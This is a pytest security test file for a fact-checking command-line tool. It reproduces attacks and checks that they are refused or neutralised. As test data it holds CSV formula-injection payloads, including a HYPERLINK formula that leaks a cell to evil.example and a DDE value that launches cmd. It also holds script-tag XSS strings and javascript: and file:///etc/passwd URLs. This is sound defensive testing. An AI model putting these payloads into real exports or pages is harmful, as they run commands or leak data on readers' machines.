"""Hostile input, hostile servers, spreadsheets and shared machines (issue 15): each test
reproduces an attack and checks that it is refused or survived."""

import csv
import io
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from factcheck import checking
from factcheck import db as store
from factcheck.models import Article, Claim, Spans

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
# (field, hostile value) of the article and its one claim
HOSTILE_ARTICLE = {"title": FORMULA, "outlet": "+cmd|' /C calc'!A0", "url": "https://news.example.org/a"}
HOSTILE_CLAIM = {
    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
    "speaker": "\tTabbed",
    "cue": "-said",
    "content": "\r=1+2 people were held",
    "sentence": "-1+1 said the ministry.",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_db(path) -> str:
    """A database with an article and a claim whose every text field would run as a formula."""
    text = "Ministry: people were held at the camps, officials said on Monday."
    db = store.Store(str(path))
    article = Article(id="h1", text=text, published="2024-05-01", **HOSTILE_ARTICLE)
    claim = Claim(
        id="c-h1",
        article="h1",
        source_id="s-h1",
        source_kind="government",
        stance="asserts",
        quote="indirect",
        spans=Spans(source=[[0, 8]], cue=[[55, 59]], content=[[10, 39]]),
        **HOSTILE_CLAIM,
    )
    checking.save_article(db, article, [claim])
    db.save_verdict("c-h1", "=False", note="+see the report", url="https://check.example.org/1")
    db.conn.close()
    return str(path)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "args",
    [
        ["articles", "--csv"],
        ["claims", "--csv"],
        ["sources", "--csv"],
        ["verdicts", "--csv"],
        ["export", "--format", "csv"],
    ],
)
def test_csv_cells_never_start_a_formula(invoke, runner, tmp_path, args):
    from factcheck.cli import app

    path = hostile_db(tmp_path / "hostile.db")
    result = runner.invoke(app, [*args, "--db", path])
    assert result.exit_code == 0, result.output
    rows = cells(result.stdout)
    assert len(rows) >= 2
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (args, cell)
    found = {cell for row in rows for cell in row}
    expected = {
        "articles": ["'" + FORMULA, "'" + HOSTILE_ARTICLE["outlet"]],
        "claims": ["'" + HOSTILE_CLAIM["source"], "'" + HOSTILE_CLAIM["cue"], "'" + HOSTILE_CLAIM["content"]],
        "sources": ["'" + HOSTILE_CLAIM["source"]],
        "verdicts": ["'=False", "'+see the report"],
        "export": ["'" + FORMULA, "'" + HOSTILE_CLAIM["speaker"], "'" + HOSTILE_CLAIM["sentence"], "'=False"],
    }
    for value in expected[args[0]]:
        assert value in found, (args, value)


def test_csv_keeps_numbers_and_plain_text_as_they_are():
    from factcheck.render import to_csv

    rows = cells(to_csv([{"score": -0.5, "n": 3, "text": "plain", "mid": "a=b", "spans": {"x": [[1, 2]]}}]))
    assert rows[1] == ["-0.5", "3", "plain", "a=b", '{"x": [[1, 2]]}']


# -- links and ClaimReview -------------------------------------------------------------------------

SCRIPT_NOTE = '</script><script>alert("x")</script> & <!--'


def test_claimreview_is_safe_inside_a_script_element(stored, invoke):
    """The JSON-LD is published inside <script type="application/ld+json">: nothing in it may
    end that element, and it still reads back as the same JSON."""
    assert (
        invoke(
            "verdict",
            "c-ministry",
            "--rating",
            "<b>False</b>",
            "--note",
            SCRIPT_NOTE,
            "--url",
            "https://check.example.org/camps",
        ).exit_code
        == 0
    )
    result = invoke("export", "--format", "claimreview", "--org", "Checks & <Co>")
    assert result.exit_code == 0, result.output
    for raw in ("<", ">", "&"):
        assert raw not in result.stdout
    assert "\\u003c/script\\u003e" in result.stdout
    review = json.loads(result.stdout)[0]
    assert review["reviewRating"] == {
        "@type": "Rating",
        "alternateName": "<b>False</b>",
        "ratingExplanation": SCRIPT_NOTE,
    }
    assert review["author"]["name"] == "Checks & <Co>"
    assert review["itemReviewed"]["appearance"]["headline"] == 'Camps <script>alert("x")</script> & dispute'


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "data:text/html,<script>",
        "file:///etc/passwd",
        "vbscript:x",
        "http://[::1",
        "https://",
        "//evil.example",
    ],
)
def test_links_that_are_not_web_addresses_are_refused_at_input(invoke, tmp_path, db_path, monkeypatch, url):
    import os

    article = tmp_path / "a.txt"
    article.write_text("The mayor said the bridge would reopen.", encoding="utf-8")
    for args in (
        ["ingest", str(article), "--url", url],
        ["export", "--format", "claimreview", "--org", "X", "--org-url", url],
    ):
        result = invoke(*args)
        assert result.exit_code == 2, (args, result.output)
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("Error: ") and repr(url) in lines[0], lines
    monkeypatch.setenv("FACTCHECK_ORG_URL", url)
    assert invoke("export", "--format", "claimreview", "--org", "X").exit_code == 2
    assert not os.path.exists(db_path)  # nothing stored, not even an empty database


def test_a_stored_javascript_url_never_becomes_a_claimreview_link(stored, invoke):
    """An article stored before URLs were checked: its URL is left out, not linked."""
    stored.execute("update articles set url = 'javascript:alert(1)' where id = 'a1'")
    stored.conn.commit()
    assert invoke("verdict", "c-ministry", "--rating", "False", "--url", "https://check.example.org/x").exit_code == 0
    result = invoke("export", "--format", "claimreview", "--org", "X")
    assert result.exit_code == 0, result.output
    assert "javascript" not in result.stdout
    assert "url" not in json.loads(result.stdout)[0]["itemReviewed"]["appearance"]


def test_feed_links_and_dates_are_checked_like_the_options(tmp_path):
    from factcheck.reader import read_feed

    feed = tmp_path / "feed.jsonl"
    feed.write_text(
        json.dumps(
            {"text": "The mayor said so.", "url": " https://x.example/a ", "published": " 2024-05-01", "title": "=1+1"}
        )
        + "\n"
        + json.dumps({"text": "Officials denied it.", "url": "", "published": "  "})
        + "\n",
        encoding="utf-8",
    )
    first, second = list(read_feed(str(feed)))
    assert (first.url, first.published, first.title) == ("https://x.example/a", "2024-05-01", "=1+1")
    assert (second.url, second.published) == (None, None)  # blank is absent


# -- hostile servers -------------------------------------------------------------------------------


class Trickle(BaseHTTPRequestHandler):
    """/trickle sends 2 bytes at a time forever (within the read timeout, so only an overall
    deadline ends it); /silent sends its headers, then nothing; /hop redirects to /trickle."""

    def do_GET(self):
        if self.path == "/hop":
            self.send_response(302)
            self.send_header("Location", "/trickle")
            self.end_headers()
            return
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", "100000")
        self.end_headers()
        try:
            for _ in range(600):  # at most a minute, should the client never give up
                if self.path == "/trickle":
                    self.wfile.write(b"<p")
                    self.wfile.flush()
                if stop.wait(0.1):
                    return
        except OSError:  # the client gave up
            pass

    def log_message(self, *args):
        pass


stop = threading.Event()


@pytest.fixture(scope="module")
def slow_server():
    stop.clear()
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Trickle)
    httpd.daemon_threads = True
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    stop.set()
    httpd.shutdown()
    httpd.server_close()


@pytest.mark.parametrize("path", ["/trickle", "/silent", "/hop"])
def test_a_slow_server_cannot_hold_a_download_past_its_deadline(slow_server, invoke, db_path, path):
    import os

    result = invoke("ingest", slow_server + path, "--timeout", "1")
    assert result.exit_code == 1, result.output
    assert result.stderr == (
        f"Error: {slow_server}{path} did not send the page within 1 s "
        "(try again later, or allow longer with --timeout SECONDS)\n"
    )
    assert not os.path.exists(db_path)


def test_the_download_deadline_is_a_minute_unless_told():
    import inspect

    from factcheck import web
    from factcheck.cli import ingest

    assert web.DEADLINE == 60 and inspect.signature(web.fetch).parameters["timeout"].default == web.DEADLINE
    assert web.TIMEOUT < web.DEADLINE
    assert inspect.signature(inspect.unwrap(ingest)).parameters["timeout"].default.default == web.DEADLINE


@pytest.mark.parametrize("url", ["http://[::1", "http://[::1]:port/", "https://[not-an-ip]/x", "http://", "https:///a"])
def test_a_malformed_url_is_an_ordinary_usage_error(invoke, db_path, url):
    import os

    for command in ("ingest", "extract"):
        result = invoke(command, url, db=command == "ingest")
        assert result.exit_code == 2, (command, result.output)
        assert result.stderr.startswith(f"Error: {url} is not a valid URL")
        assert len(result.stderr.strip().splitlines()) == 1 and "bug" not in result.stderr
    assert not os.path.exists(db_path)


# -- --output on a full disk -----------------------------------------------------------------------


def test_a_failed_output_write_leaves_the_old_file_whole(stored, invoke, tmp_path, monkeypatch):
    import errno
    import os

    out = tmp_path / "reports" / "report.html"
    out.parent.mkdir()
    out.write_text("the report of yesterday", encoding="utf-8")

    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    for args in (["report", "--format", "html"], ["export", "--format", "csv"]):
        result = invoke(*args, "--output", str(out))
        assert result.exit_code == 1, result.output
        assert result.stderr == (
            f"Error: cannot write {out}: No space left on device (give a writable --output path)\n"
        )
        assert out.read_text(encoding="utf-8") == "the report of yesterday"
        assert [p.name for p in out.parent.iterdir()] == ["report.html"]  # no temporary file left


def test_output_replaces_the_file_keeping_its_mode_and_symlink(stored, invoke, tmp_path):
    import os
    import stat

    real = tmp_path / "real.md"
    real.write_text("old", encoding="utf-8")
    real.chmod(0o640)
    link = tmp_path / "link.md"
    link.symlink_to(real)
    result = invoke("report", "--output", str(link))
    assert result.exit_code == 0 and result.stderr == f"Wrote {link}\n"
    assert link.is_symlink() and real.read_text(encoding="utf-8").startswith("#")
    assert stat.S_IMODE(real.stat().st_mode) == 0o640
    fresh = tmp_path / "fresh.md"
    assert invoke("report", "--output", str(fresh)).exit_code == 0
    mask = os.umask(0)
    os.umask(mask)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o666 & ~mask  # as a plain write would make it
    assert invoke("report", "--output", os.devnull).exit_code == 0  # a device is written as it is


# -- Datasette ---------------------------------------------------------------------------------------

UNKNOWN_PATHS = [
    "/hostile/claims/-/drop",
    "/a/b/c/d",
    "/nope",
    "/hostile/nope",
    "/hostile/claims/nope",
    "/hostile/claims/nope.json",
    "/-/nope",
    "/a/b/c/d/e/f/g",
]


def test_unknown_datasette_paths_answer_404_with_one_log_line(tmp_path, capfd):
    import asyncio

    from factcheck.serve import make_datasette

    ds = make_datasette(hostile_db(tmp_path / "hostile.db"))

    async def get_all():
        return [(await ds.client.get(path)).status_code for path in UNKNOWN_PATHS]

    capfd.readouterr()
    assert asyncio.run(get_all()) == [404] * len(UNKNOWN_PATHS)
    out, err = capfd.readouterr()
    assert out == ""  # no rich traceback on standard output
    lines = err.splitlines()
    assert len(lines) == len(UNKNOWN_PATHS), err
    assert lines[0] == "404 GET /hostile/claims/-/drop: not found"
    assert lines[2] == "404 GET /nope: Database not found"
    assert lines[-1] == "404 GET /a/b/c/d/e/f/g: not found"


def test_served_datasette_answers_unknown_paths_404_and_logs_one_line(tmp_path):
    """The real `factcheck serve`: what its terminal shows for unknown paths."""
    import socket
    import subprocess
    import sys
    import time
    import urllib.error
    import urllib.request

    path = hostile_db(tmp_path / "hostile.db")
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    out, err = tmp_path / "out.log", tmp_path / "err.log"
    with open(out, "wb") as o, open(err, "wb") as e:
        proc = subprocess.Popen(
            [sys.executable, "-m", "factcheck", "serve", "--db", path, "--port", str(port)],
            stdout=o,
            stderr=e,
            stdin=subprocess.DEVNULL,
        )
    base = f"http://127.0.0.1:{port}"
    try:
        for _ in range(300):  # until it answers (or has exited)
            try:
                urllib.request.urlopen(base + "/-/versions.json", timeout=2).close()
                break
            except OSError:
                assert proc.poll() is None, err.read_text()
                time.sleep(0.2)
        statuses = []
        for unknown in UNKNOWN_PATHS[:3]:
            try:
                urllib.request.urlopen(base + unknown, timeout=10)
            except urllib.error.HTTPError as answer:
                statuses.append(answer.code)
        assert statuses == [404, 404, 404]
    finally:
        proc.terminate()
        proc.wait(timeout=30)
    log = err.read_text().splitlines()
    assert log[0].startswith(f"Serving {path} at http://127.0.0.1:{port}/")
    assert log[1:] == [
        "404 GET /hostile/claims/-/drop: not found",
        "404 GET /a/b/c/d: not found",
        "404 GET /nope: Database not found",
    ]
    assert out.read_text() == ""


@pytest.mark.parametrize(
    "host, warned", [("0.0.0.0", True), ("::", True), ("127.0.0.1", False), ("::1", False), ("localhost", False)]
)
def test_serve_on_every_interface_warns_that_the_database_is_open(runner, tmp_path, monkeypatch, host, warned):
    import socket

    import uvicorn

    from factcheck.cli import app

    if ":" in host and not socket.has_ipv6:
        pytest.skip("no IPv6 here")
    ran = []
    monkeypatch.setattr(uvicorn, "run", lambda *args, **kwargs: ran.append(kwargs["host"]))
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    result = runner.invoke(app, ["serve", "--host", host, "--port", str(port), "--db", hostile_db(tmp_path / "h.db")])
    if result.exit_code == 1 and "cannot listen" in result.stderr:
        pytest.skip(f"cannot bind {host} here")
    assert result.exit_code == 0 and ran == [host], result.output
    lines = result.stderr.splitlines()
    assert lines[0].startswith("Serving ")
    if warned:
        assert lines[1:] == [
            f"Warning: --host {host} opens the database to the network: anyone who can reach "
            f"this machine on port {port} can read it (the default, 127.0.0.1, keeps it to this machine)"
        ]
    else:
        assert lines[1:] == []


def test_contradictions_refuses_an_unknown_kind(invoke, tmp_path):
    from factcheck.cli import KindChoice
    from factcheck.contradict import BASE

    path = hostile_db(tmp_path / "h.db")
    result = invoke("contradictions", "--kind", "bogus", "--db", path, db=False)
    assert result.exit_code == 2
    assert result.stderr.startswith("Error: Invalid value for '--kind': 'bogus' is not one of 'denial',")
    assert len(result.stderr.strip().splitlines()) == 1
    for kind in ("denial", "changed position"):
        assert invoke("contradictions", "--kind", kind, "--db", path, db=False).exit_code == 0
    assert {k.value for k in KindChoice} == set(BASE) | {"changed position"}  # every kind the engine reports


def test_a_symlink_loop_is_called_one(invoke, tmp_path):
    (tmp_path / "a").symlink_to(tmp_path / "b")
    (tmp_path / "b").symlink_to(tmp_path / "a")
    loop = str(tmp_path / "a")
    good = hostile_db(tmp_path / "h.db")
    for args in (
        ["ingest", loop, "--db", good],
        ["ingest", "--feed", loop, "--db", good],
        ["claims", "--db", loop],
        ["ingest", "-", "--db", loop],
        ["report", "--output", loop, "--db", good],
    ):
        result = invoke(*args, input="The mayor said so.", db=False)
        assert result.exit_code == 1, (args, result.output)
        assert result.stderr.startswith(f"Error: {loop} is a symlink loop ("), (args, result.stderr)
        assert len(result.stderr.strip().splitlines()) == 1
    assert (tmp_path / "a").is_symlink()  # still the link it was


# -- workers on a shared machine ---------------------------------------------------------------------


def test_jobs_are_capped_at_the_cores_with_one_note(runner, tmp_path, monkeypatch):
    from factcheck import ingest as ingesting
    from factcheck.cli import app

    cores = ingesting.default_jobs()
    asked = []
    monkeypatch.setattr(
        ingesting,
        "ingest",
        lambda db, articles, jobs, on_article, client, reparse: asked.append(jobs) or ingesting.Stats(),
    )
    feed = tmp_path / "feed.jsonl"
    feed.write_text("".join(json.dumps({"text": f"The mayor said bridge {i} would reopen."}) + "\n" for i in range(3)))
    result = runner.invoke(app, ["ingest", "--feed", str(feed), "--jobs", "100000", "--db", str(tmp_path / "j.db")])
    assert result.exit_code == 0, result.output
    assert asked == [cores]
    assert (
        result.stderr.splitlines()[0]
        == f"Note: --jobs 100000 is more than the {cores} cores this process may use; using {cores}"
    )
    assert result.stderr.count("Note:") == 1
    fewer = runner.invoke(app, ["ingest", "--feed", str(feed), "--jobs", "1", "--db", str(tmp_path / "j.db")])
    assert asked[-1] == 1 and "Note:" not in fewer.stderr


def test_the_library_caps_jobs_too(tmp_path, monkeypatch):
    from factcheck import ingest as ingesting

    pools = []

    def parallel(head, rest, aliases, jobs):  # records the workers asked for; claims: none
        pools.append(jobs)
        for batch in [*head, *rest]:
            yield batch, [[] for _ in batch]

    monkeypatch.setattr(ingesting, "_parallel", parallel)
    articles = [Article(id=f"j{i}", text=f"The mayor said bridge {i} would reopen.") for i in range(20)]
    stats = ingesting.ingest(store.Store(str(tmp_path / "lib.db")), articles, jobs=100_000)
    assert pools == [ingesting.default_jobs()] and stats.articles == 20


def children(pid: int) -> list[int]:
    """The processes `pid` started, from /proc (Linux)."""
    import os

    found = []
    for task in os.listdir(f"/proc/{pid}/task"):
        with open(f"/proc/{pid}/task/{task}/children") as f:
            found += [int(c) for c in f.read().split()]
    return found


def ended(pid: int) -> bool:
    """Gone, or a zombie nobody has reaped yet: it runs no more."""
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] in ("Z", "X")
    except FileNotFoundError:
        return True


@pytest.fixture
def busy_ingest(tmp_path):
    """`factcheck ingest --jobs 2` of a feed that keeps two workers busy for minutes, once both
    workers run: (process, worker pids, stderr file)."""
    import os
    import subprocess
    import sys
    import time

    if not os.path.exists(f"/proc/{os.getpid()}/task/{os.getpid()}/children"):
        pytest.skip("needs Linux's /proc/PID/task/TID/children")
    paragraph = " ".join(
        f"The mayor of town {j} said the bridge would reopen in May, officials denied it." for j in range(10)
    )
    feed = tmp_path / "busy.jsonl"
    feed.write_text(
        # paragraphs that differ: a paragraph printed again is read once
        "".join(
            json.dumps({"id": f"b{i}", "text": "\n\n".join(f"{paragraph} Part {k}." for k in range(60))}) + "\n"
            for i in range(24)
        )
    )
    err = tmp_path / "stderr.log"
    with open(err, "wb") as e:
        proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "factcheck",
                "ingest",
                "--feed",
                str(feed),
                "--jobs",
                "2",
                "--quiet",
                "--db",
                str(tmp_path / "busy.db"),
            ],
            stderr=e,
            stdin=subprocess.DEVNULL,
        )
    try:
        while len(children(proc.pid)) < 2:
            assert proc.poll() is None, err.read_text()
            time.sleep(0.1)
        yield proc, children(proc.pid), err
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.wait()


def wait_until_ended(pids, seconds=30):
    """Waits (at most `seconds`, far longer than an exiting process needs, far shorter than the
    minutes of work the workers were given) until every pid has ended; those that have not."""
    import time

    for _ in range(int(seconds * 10)):
        if all(ended(p) for p in pids):
            break
        time.sleep(0.1)
    return [p for p in pids if not ended(p)]


def test_sigterm_stops_ingest_like_ctrl_c_and_the_workers_quietly(busy_ingest):
    import signal

    proc, workers, err = busy_ingest
    proc.send_signal(signal.SIGTERM)
    assert proc.wait(timeout=60) == 143
    assert err.read_text() == (
        "Error: interrupted; every article stored so far is complete (run the same command again to finish)\n"
    )
    assert wait_until_ended(workers) == []
    assert "Traceback" not in err.read_text()  # nothing printed after the parent ended either


def test_no_worker_outlives_a_killed_parent(busy_ingest):
    import signal

    proc, workers, _ = busy_ingest
    proc.send_signal(signal.SIGKILL)  # as the kernel's out-of-memory killer does
    proc.wait(timeout=60)
    assert wait_until_ended(workers) == []


# -- property: arbitrary input through ingest -> report -> export runs nothing -----------------------

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

ATTACKS = [
    "<script>alert(1)</script>",
    "</script><script>x()</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:x",
    "data:text/html,<script>",
    "=1+2",
    '=HYPERLINK("http://evil")',
    "+cmd",
    "-2+3",
    "@SUM(A1)",
    "\t=x",
    "\r=x",
    "[x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "&lt;script&gt;",
    "\u2028",
    "\x00",
    "http://[::1",
    "https://ok.example/a?b=<c>",
]
PIECES = [
    "The minister said",
    "that",
    "officials denied",
    "the camps",
    "were prisons",
    ".",
    ",",
    '"',
    "\n\n",
    "according to the report",
    "2 million people",
]
hostile_words = st.lists(
    st.one_of(st.sampled_from(ATTACKS), st.sampled_from(PIECES), st.text(max_size=20)), max_size=30
).map(" ".join)
# around a sentence with a claim, so that there is something to report and to give a verdict on
hostile_text = st.tuples(hostile_words, st.sampled_from(ATTACKS), hostile_words).map(
    lambda parts: f"{parts[0]}\n\nThe minister said that {parts[1]} the camps were prisons.\n\n{parts[2]}"
)
hostile_field = st.one_of(
    st.none(),
    st.sampled_from(ATTACKS),
    st.text(min_size=1, max_size=40),
    st.tuples(st.sampled_from(ATTACKS), st.text(max_size=10)).map("".join),
)
hostile_url = st.one_of(
    st.none(),
    st.sampled_from(ATTACKS),
    st.sampled_from(["https://news.example.org/a", "http://x.example/<script>"]),
    st.text(max_size=30),
    st.text(max_size=30).map(lambda t: "https://h.example/" + t),
)


def one_line_or_ok(result, args):
    assert result.exit_code in (0, 1, 2), (args, result.exit_code, result.output)
    assert "Traceback" not in result.output, (args, result.output)
    if result.exit_code:
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("Error: "), (args, result.stderr)
        assert "bug in factcheck" not in lines[0], (args, lines[0])
    return result.exit_code == 0


exported: list[int] = []  # ClaimReviews per example, to see that verdicts got through


def web_links_only(value, where):
    """Every "url" in a JSON document is an http(s) address."""
    if isinstance(value, dict):
        for key, item in value.items():
            if key == "url":
                assert item.lower().startswith(("http://", "https://")), (where, item)
            web_links_only(item, where)
    elif isinstance(value, list):
        for item in value:
            web_links_only(item, where)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow], print_blob=True)
@given(
    text=hostile_text,
    title=hostile_field,
    outlet=hostile_field,
    url=hostile_url,
    rating=hostile_field,
    note=hostile_field,
    verdict_url=hostile_url,
    org=hostile_field,
    org_url=hostile_url,
)
def test_arbitrary_input_through_ingest_report_and_export_runs_nothing(
    text, title, outlet, url, rating, note, verdict_url, org, org_url
):
    """Whatever the article, its title, outlet and URL, a verdict's rating, note and URL, and the
    organization: every command exits 0 or with one line, and what they write runs nothing."""
    import re
    import tempfile
    from pathlib import Path

    from typer.testing import CliRunner

    from factcheck.cli import app

    runner = CliRunner()
    with tempfile.TemporaryDirectory() as tmp:
        db = str(Path(tmp) / "p.db")

        def run(*args, input=None):
            args = [*args, "--db", db]
            result = runner.invoke(app, args, input=input)
            return one_line_or_ok(result, args), result

        def options(**given):  # --name=VALUE: a value may start with "-"
            return [f"--{name.replace('_', '-')}={value}" for name, value in given.items() if value is not None]

        stored, _ = run("ingest", "-", *options(title=title, outlet=outlet, url=url), input=text.encode("utf-8"))
        if not stored:
            stored, _ = run("ingest", "-", input=text.encode("utf-8"))
        if not stored:
            return  # refused as a whole (e.g. nothing but spaces): said in one line
        ok, listed = run("claims", "--json")
        claims = json.loads(listed.stdout) if ok else []
        if claims and rating:
            for claim in claims[:2]:
                run("verdict", claim["id"], *options(rating=rating, note=note, url=verdict_url))
                run("verdict", claim["id"], *options(rating="False", note=note))  # one that stands
        ok, html = run("report", "--format", "html")
        if ok:
            assert "<script" not in html.stdout.lower()
            for href in re.findall(r"""href\s*=\s*["']?([^"'\s>]*)""", html.stdout, re.I):
                assert href.startswith(("#", "http://", "https://")), href
        ok, md = run("report")
        if ok:
            assert not re.search(r"(?<!\\)<\s*script", md.stdout, re.I)
            assert not re.search(r"(?<!\\)(\]\(|<)\s*javascript:", md.stdout, re.I)
        ok, table = run("export", "--format", "csv")
        if ok:
            for row in cells(table.stdout):
                for cell in row:
                    assert not cell.startswith(FORMULA_STARTS), cell
        ok, reviews = run("export", "--format", "claimreview", *options(org=org or "Checks", org_url=org_url))
        if not ok:
            ok, reviews = run("export", "--format", "claimreview", *options(org=org or "Checks"))
        if ok:
            exported.append(len(json.loads(reviews.stdout)))
            assert "<" not in reviews.stdout and ">" not in reviews.stdout and "&" not in reviews.stdout
            web_links_only(json.loads(reviews.stdout), "claimreview")


def test_the_property_reached_claimreview():
    """Run after the property above: some examples went all the way to a verdict exported."""
    if not exported:
        pytest.skip("run with the property test")
    assert any(n > 0 for n in exported), exported
